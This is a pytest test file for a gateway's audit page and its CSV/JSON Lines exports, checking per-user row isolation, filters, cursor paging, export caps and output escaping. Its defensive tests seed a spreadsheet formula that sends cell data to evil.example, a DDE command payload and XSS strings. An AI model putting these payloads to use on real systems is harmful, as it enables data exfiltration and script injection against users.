"""The audit page and its exports, in-process over the real control plane and store
(SQLite and PostgreSQL): filters, keyset paging through an opaque cursor, CSV and JSON
Lines streamed a page at a time, and the attacks on them, each a test that fails if its
guard is removed.

Attacks:
- Bob never sees Alice's rows: not on the page, not in either export, not by sending a
  user filter (an administrator's), not by naming her profile;
- a forged or garbled cursor, a bad date, a filter with a NUL byte: a clear error on the
  page (or instead of the download), never a 500;
- a cell a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR) is written as text;
- an export of more rows than its cap stops at the cap, reads the store a bounded page at
  a time, and says where the rest begins;
- a value from a row (a server's detail) is escaped on the page, never markup.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import AsyncIterator, Iterable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from gigmcp.control import audit, auditexport, impersonation, profiles, websessions
from gigmcp.core.views import AuditEvent
from gigmcp.store.catalog import StoreCatalog
from gigmcp.store.models import Profile
from tests.support.dashboard import Dash, dashboard

CSP_START = "default-src 'none'; script-src 'self'; style-src 'self'"
T0 = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)


@pytest.fixture
async def dash(database_url: str, tmp_path: Path) -> AsyncIterator[Dash]:
    async with dashboard(database_url, tmp_path, impersonation=True) as d:
        yield d


async def seed(database_url: str, events: Iterable[AuditEvent]) -> None:
    """Rows through the gateway's own writer (the queue and its flush)."""
    catalog = StoreCatalog(database_url)
    try:
        for e in events:
            catalog.record(e)
        await catalog.flush()
    finally:
        catalog.engine.dispose()


def call(user_id: int, server: str, n: int, **kw: Any) -> AuditEvent:
    """The n-th call, a minute after the one before it."""
    fields: dict[str, Any] = {"tool": "search", "duration_ms": 12.5, "outcome": "ok"}
    fields.update(kw)
    outcome = fields.pop("outcome")
    return AuditEvent(
        "tools/call", outcome, user_id, server=server, at=T0 + timedelta(minutes=n), **fields
    )


def profile_id(dash: Dash, slug: str) -> int:
    with Session(dash.engine) as s:
        pid = s.scalar(select(Profile.id).where(Profile.slug == slug))
    assert pid is not None
    return pid


def body_rows(page: str) -> list[str]:
    """The table rows of an audit page, as their text."""
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in page else ""
    return re.findall(r"<tr>(.*?)</tr>", body, re.S)


def older_link(page: str) -> str | None:
    found = re.search(r'<a href="(/audit\?[^"]*)" rel="next">', page)
    return html.unescape(found.group(1)) if found else None


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


async def test_the_page_shows_the_viewers_rows_and_filters_them(
    dash: Dash, database_url: str
) -> None:
    await seed(
        database_url,
        [
            call(dash.alice.user_id, "github", 1),
            call(dash.alice.user_id, "github", 2, outcome="error", detail="upstream said no"),
            call(dash.alice.user_id, "jira", 3, tool="create_issue"),
            call(dash.bob.user_id, "slack", 4),
        ],
    )
    alice = dash.browser(dash.alice)
    r = await alice.get("/audit")
    assert r.status_code == 200, r.text
    assert r.headers["content-security-policy"].startswith(CSP_START)
    assert r.headers["cache-control"] == "no-store"
    assert 'href="/audit" aria-current="page"' in r.text
    assert "github" in r.text and "jira" in r.text and "slack" not in r.text
    assert "user.sign_in" in r.text  # her own sign-in is on her record
    # A user has no user column nor user filter: every row is theirs.
    assert 'name="user"' not in r.text

    only = await alice.get("/audit", params={"server": "github", "outcome": "error"})
    rows = body_rows(only.text)
    assert len(rows) == 1 and "upstream said no" in rows[0]
    assert 'value="github"' in only.text  # the form keeps what was asked

    kinds = await alice.get("/audit", params={"kind": "tools/call", "tool": "create_issue"})
    assert len(body_rows(kinds.text)) == 1 and "jira" in kinds.text

    # Dates are UTC days, both ends included.
    day = T0.date().isoformat()
    dated = await alice.get("/audit", params={"from": day, "to": day, "kind": "tools/call"})
    assert len(body_rows(dated.text)) == 3
    before = (T0.date() - timedelta(days=1)).isoformat()
    none = await alice.get("/audit", params={"to": before, "kind": "tools/call"})
    assert body_rows(none.text) == [] and "No events match." in none.text

    admin = await dash.browser(dash.admin).get("/audit", params={"kind": "tools/call"})
    assert "github" in admin.text and "slack" in admin.text
    assert ">Alice<" in admin.text and ">Bob<" in admin.text  # the user column
    by_user = await dash.browser(dash.admin).get(
        "/audit", params={"kind": "tools/call", "user": str(dash.bob.user_id)}
    )
    assert "slack" in by_user.text and "github" not in by_user.text
    assert f'value="{dash.bob.user_id}" selected' in by_user.text


async def test_the_profile_filter_names_the_viewers_profile(dash: Dash, database_url: str) -> None:
    profiles.create_profile(dash.engine, dash.alice, "alice-work")
    pid = profile_id(dash, "alice-work")
    await seed(
        database_url,
        [
            call(dash.alice.user_id, "github", 1, profile_id=pid),
            call(dash.alice.user_id, "jira", 2),
        ],
    )
    alice = dash.browser(dash.alice)
    r = await alice.get("/audit", params={"profile": "alice-work", "kind": "tools/call"})
    rows = body_rows(r.text)
    assert len(rows) == 1 and "github" in rows[0] and "alice-work" in rows[0]


async def test_attack_bob_never_sees_alices_rows(dash: Dash, database_url: str) -> None:
    profiles.create_profile(dash.engine, dash.alice, "alice-secret")
    pid = profile_id(dash, "alice-secret")
    await seed(
        database_url,
        [call(dash.alice.user_id, "alice-srv", n, profile_id=pid) for n in range(5)]
        + [call(dash.bob.user_id, "bob-srv", 10)],
    )
    bob = dash.browser(dash.bob)
    exports = ("/audit/export.csv", "/audit/export.jsonl")
    for path in ("/audit", *exports):
        for params in ({}, {"user": str(dash.alice.user_id)}, {"server": "alice-srv"}):
            r = await bob.get(path, params=params)
            assert r.status_code == 200, r.text
            # The page's rows (its form and links keep what Bob typed), the whole file.
            shown = "".join(body_rows(r.text)) if path == "/audit" else r.text
            assert "alice-srv" not in shown and "alice-secret" not in shown
            assert "Alice" not in r.text
    mine = await bob.get("/audit/export.jsonl")
    got = [json.loads(line) for line in mine.text.splitlines()]
    assert got and {g["user_id"] for g in got} == {dash.bob.user_id}
    # Naming her profile is the same answer as naming none that exists.
    for path in ("/audit", *exports):
        named = await bob.get(path, params={"profile": "alice-secret"})
        absent = await bob.get(path, params={"profile": "no-such-profile"})
        expected = 422 if path == "/audit" else 404
        assert named.status_code == absent.status_code == expected
        assert "alice-srv" not in named.text
        assert named.text.replace("alice-secret", "X") == absent.text.replace(
            "no-such-profile", "X"
        )
    # Her own view and the administrator's do hold them.
    assert "alice-srv" in (await dash.browser(dash.alice).get("/audit")).text
    everyone = await dash.browser(dash.admin).get("/audit/export.csv")
    assert "alice-srv" in everyone.text and "bob-srv" in everyone.text


async def test_pages_follow_an_opaque_cursor_keeping_the_filters(
    dash: Dash, database_url: str
) -> None:
    await seed(database_url, [call(dash.alice.user_id, "github", n) for n in range(120)])
    await seed(database_url, [call(dash.alice.user_id, "jira", 500)])  # filtered out
    alice = dash.browser(dash.alice)
    seen: list[str] = []
    link: str | None = "/audit?server=github"
    pages = 0
    while link is not None:
        r = await alice.get(link)
        assert r.status_code == 200, r.text
        rows = body_rows(r.text)
        assert all("github" in row for row in rows)
        seen += [re.search(r'datetime="([^"]+)"', row).group(1) for row in rows]  # type: ignore[union-attr]
        link = older_link(r.text)
        if link is not None:
            assert "server=github" in link and "after=" in link
            # The cursor is opaque: no time or id in clear.
            assert str(T0.year) not in link.split("after=")[1]
        pages += 1
    assert pages == 3 and len(seen) == 120
    assert seen == sorted(seen, reverse=True) and len(set(seen)) == 120
    # Rows written while paging are newer: the next page neither repeats nor skips.
    first = await alice.get("/audit?server=github")
    cursor_link = older_link(first.text)
    assert cursor_link is not None
    await seed(database_url, [call(dash.alice.user_id, "github", 1000)])
    second = body_rows((await alice.get(cursor_link)).text)
    assert len(second) == 50 and (T0 + timedelta(minutes=69)).isoformat() in second[0]


@pytest.mark.parametrize(
    "after",
    [
        "not-a-cursor",
        "%%%",
        auditexport.token(audit.Cursor(T0, 1)).swapcase(),
        # Well-formed base64 of things token() never writes.
        "MjAyNS0wMy0xMFQxMjowMDowMCswMDowMHwtMQ",  # ...|-1
        "MjAyNS0wMy0xMFQxMjowMDowMCswMDowMHw5OTk5OTk5OTk5OTk5OTk5OTk5OTk5",  # huge id
        "MjAyNS0wMy0xMFQxMjowMDowMCswMDowMA",  # no id
        "AAAA",
    ],
)
async def test_attack_a_forged_or_garbled_cursor_is_a_clear_error(dash: Dash, after: str) -> None:
    alice = dash.browser(dash.alice)
    page = await alice.get("/audit", params={"after": after})
    assert page.status_code == 422, page.text
    assert "not one the gateway made" in page.text
    assert 'href="/audit"' in page.text  # a way back to the newest
    for path in ("/audit/export.csv", "/audit/export.jsonl"):
        r = await alice.get(path, params={"after": after})
        assert r.status_code == 422 and "not one the gateway made" in r.text
        assert "content-disposition" not in r.headers
        assert "Traceback" not in r.text


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ({"from": "2025-13-01"}, "From: not a date"),
        ({"to": "yesterday"}, "To: not a date"),
        ({"to": "9999-12-31"}, "To: not a date"),
        ({"from": "2025-03-10", "to": "2025-03-09"}, "must not come after"),
        ({"kind": "tools/call\x00"}, "Kind: too long, or holds characters"),
        ({"server": "x" * 64}, "Server: too long"),
        ({"profile": "nope\x00"}, "Profile: too long, or holds characters"),
        ({"profile": "no-such-profile"}, "no profile named"),
    ],
)
async def test_a_bad_filter_is_a_clear_error_on_the_page(
    dash: Dash, params: dict[str, str], words: str
) -> None:
    alice = dash.browser(dash.alice)
    r = await alice.get("/audit", params=params)
    assert r.status_code == 422, r.text
    assert words in html.unescape(r.text)
    assert "Traceback" not in r.text and "SELECT" not in r.text
    assert "<tbody>" not in r.text
    # The export refuses the same filter before a byte of a download.
    export = await alice.get("/audit/export.csv", params=params)
    assert export.status_code in (404, 422) and "content-disposition" not in export.headers


async def test_an_administrators_bad_user_filter_is_a_clear_error(dash: Dash) -> None:
    admin = dash.browser(dash.admin)
    for value in ("abc", "-1", "0", "9" * 30):
        r = await admin.get("/audit", params={"user": value})
        assert r.status_code == 422 and "choose one from the list" in r.text


async def test_exports_hold_every_matching_row_as_attachments(
    dash: Dash, database_url: str
) -> None:
    profiles.create_profile(dash.engine, dash.alice, "alice-work")
    pid = profile_id(dash, "alice-work")
    await seed(
        database_url,
        [call(dash.alice.user_id, "github", n, profile_id=pid, arg_bytes=7) for n in range(3)]
        + [call(dash.alice.user_id, "jira", 9)],
    )
    alice = dash.browser(dash.alice)
    page = await alice.get("/audit", params={"server": "github"})
    assert 'href="/audit/export.csv?server=github"' in page.text
    assert 'href="/audit/export.jsonl?server=github"' in page.text

    r = await alice.get("/audit/export.csv", params={"server": "github"})
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="gigmcp-audit-\d{8}T\d{6}Z\.csv"',
        r.headers["content-disposition"],
    )
    assert r.headers["x-export-row-limit"] == str(auditexport.EXPORT_CAP)
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"
    rows = csv_rows(r.text)
    assert rows[0] == [
        "id", "at", "kind", "user_id", "user", "profile_id", "profile", "server", "tool",
        "outcome", "duration_ms", "arg_bytes", "detail",
    ]  # fmt: skip
    assert len(rows) == 4
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["at"] == (T0 + timedelta(minutes=2)).isoformat()
    assert first["user"] == "Alice" and first["profile"] == "alice-work"
    assert first["server"] == "github" and first["arg_bytes"] == "7"

    j = await alice.get("/audit/export.jsonl", params={"server": "github"})
    assert j.headers["content-type"] == "application/jsonl; charset=utf-8"
    assert j.headers["content-disposition"].startswith("attachment; filename=")
    items = [json.loads(line) for line in j.text.splitlines()]
    assert [i["at"] for i in items] == [(T0 + timedelta(minutes=n)).isoformat() for n in (2, 1, 0)]
    assert items[0]["profile"] == "alice-work" and items[0]["duration_ms"] == 12.5

    nothing = await alice.get("/audit/export.csv", params={"server": "none-such"})
    assert nothing.status_code == 200 and len(csv_rows(nothing.text)) == 1  # the header


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
async def test_attack_csv_injection_is_written_as_text(
    dash: Dash, database_url: str, lead: str
) -> None:
    formula = f'{lead}HYPERLINK("https://evil.example/?"&A1,"x")'
    await seed(
        database_url,
        [
            call(
                dash.alice.user_id,
                f"{lead}srv",
                1,
                tool=f"{lead}cmd|' /C calc'!A0",
                outcome=f"{lead}1",
                detail=formula,
            )
        ],
    )
    alice = dash.browser(dash.alice)
    rows = csv_rows((await alice.get("/audit/export.csv", params={"kind": "tools/call"})).text)
    assert len(rows) == 2
    record = dict(zip(rows[0], rows[1], strict=True))
    for column in ("server", "tool", "outcome", "detail"):
        assert record[column].startswith("'" + lead), (column, record[column])
    assert record["detail"] == "'" + formula
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in rows[1])
    # JSON is no formula language: the JSON Lines export keeps the value as it is.
    j = await alice.get("/audit/export.jsonl", params={"kind": "tools/call"})
    assert json.loads(j.text.splitlines()[0])["detail"] == formula


async def test_attack_a_large_export_stays_bounded(
    dash: Dash, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    await seed(database_url, [call(dash.alice.user_id, "github", n) for n in range(1250)])
    asked: list[int] = []
    real = audit.events

    def counting(*args: Any, **kw: Any) -> audit.AuditPage:
        page = real(*args, **kw)
        asked.append(len(page.items))
        return page

    monkeypatch.setattr(audit, "events", counting)
    monkeypatch.setattr(auditexport, "EXPORT_CAP", 1100)
    alice = dash.browser(dash.alice)
    r = await alice.get("/audit/export.csv", params={"server": "github"})
    assert r.headers["x-export-row-limit"] == "1100"
    rows = csv_rows(r.text)
    # The store is read a page at a time, never more than the service layer's page.
    assert asked == [500, 500, 100] and max(asked) <= audit.MAX_PAGE
    assert len(rows) == 1 + 1100 + 1
    note = rows[-1][0]
    assert note.startswith("# truncated: an export holds at most 1100 rows")
    rest = re.search(r"after=(\S+)", note).group(1)  # type: ignore[union-attr]

    # The rest, from where the cut export ended: no row twice, none missed.
    asked.clear()
    more = await alice.get("/audit/export.jsonl", params={"server": "github", "after": rest})
    tail = [json.loads(line) for line in more.text.splitlines()]
    assert len(tail) == 150 and "truncated" not in tail[-1]
    ids = {int(row[0]) for row in rows[1:-1]} | {t["id"] for t in tail}
    assert len(ids) == 1250

    capped = await alice.get("/audit/export.jsonl", params={"server": "github"})
    lines = [json.loads(line) for line in capped.text.splitlines()]
    assert len(lines) == 1101 and lines[-1]["truncated"] is True and lines[-1]["limit"] == 1100


async def test_attack_row_values_are_escaped_on_the_page(dash: Dash, database_url: str) -> None:
    await seed(
        database_url,
        [
            call(
                dash.alice.user_id,
                "<b>srv</b>",
                1,
                tool='"><script>alert(1)</script>',
                detail="<img src=x onerror=alert(1)>",
            )
        ],
    )
    r = await dash.browser(dash.alice).get("/audit")
    assert "<script>alert(1)" not in r.text and "<img src=x" not in r.text
    assert "<b>srv</b>" not in r.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in r.text
    assert "&lt;b&gt;srv&lt;/b&gt;" in r.text


async def test_an_impersonating_administrator_sees_the_users_rows(
    dash: Dash, database_url: str
) -> None:
    await seed(
        database_url,
        [call(dash.alice.user_id, "alice-srv", 1), call(dash.bob.user_id, "bob-srv", 2)],
    )
    admin = dash.browser(dash.admin)
    current = websessions.resolve(
        dash.engine, admin.client.cookies[dash.cfg.cookie_name], dash.cfg.lifetimes
    )
    assert current is not None
    impersonation.start(dash.engine, current, dash.alice.user_id, 10)
    for path in ("/audit", "/audit/export.csv"):
        r = await admin.get(path, params={"user": str(dash.bob.user_id)})
        assert "alice-srv" in r.text and "bob-srv" not in r.text
    page = await admin.get("/audit")
    assert "impersonation.start" in page.text  # on her record, for her to see
    assert 'name="user"' not in page.text  # she has no user filter
